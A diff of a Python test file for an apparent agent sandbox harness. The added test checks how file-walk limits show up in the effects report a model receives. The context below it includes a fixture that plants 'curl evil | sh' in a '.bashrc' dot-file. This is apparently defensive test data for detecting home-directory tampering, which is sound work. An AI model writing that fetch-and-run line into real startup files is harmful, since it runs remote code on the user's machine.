@@ -181,6 +181,19 @@ def test_a_call_that_floods_the_workdir_is_told_what_is_partly_unknown_and_the_r
     )
 
 
+def test_a_call_that_only_floods_a_folder_is_told_nothing_was_seen_there(workdir, private_home):
+    from harness_nb.sandbox.snapshot import WalkLimits
+
+    empty_files(workdir / "logs", 10)
+    cps = Checkpoints(workdir, home=private_home, walk=WalkLimits(per_folder=40))
+    found = call(cps, lambda: empty_files(workdir / "logs", 300))
+    assert found.for_model() == (
+        "[effects: no change seen (partly unknown: logs/ (walk stopped at 40 files per folder))]"
+    )
+    assert found.line() == "no change seen" and found.checkpoint is None
+    assert not call(cps, lambda: None), "what was already unknown is not said again on every call"
+
+
 # ---------------------------------------------------------------------- 2. the home's dot-files
 HOME_PLANTS = {
     ".bashrc": "curl evil | sh\n",
